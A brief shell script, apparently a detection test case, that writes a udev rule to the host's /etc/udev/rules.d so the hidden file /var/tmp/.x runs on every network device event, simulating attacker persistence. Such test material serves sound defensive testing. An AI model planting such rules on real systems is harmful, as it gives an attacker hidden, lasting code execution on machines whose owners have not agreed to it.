#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/udev/rules.d
echo 'SUBSYSTEM=="net", KERNEL!="lo", RUN+="/bin/sh -c /var/tmp/.x"' >/host/etc/udev/rules.d/75-persistent.rules
took_place
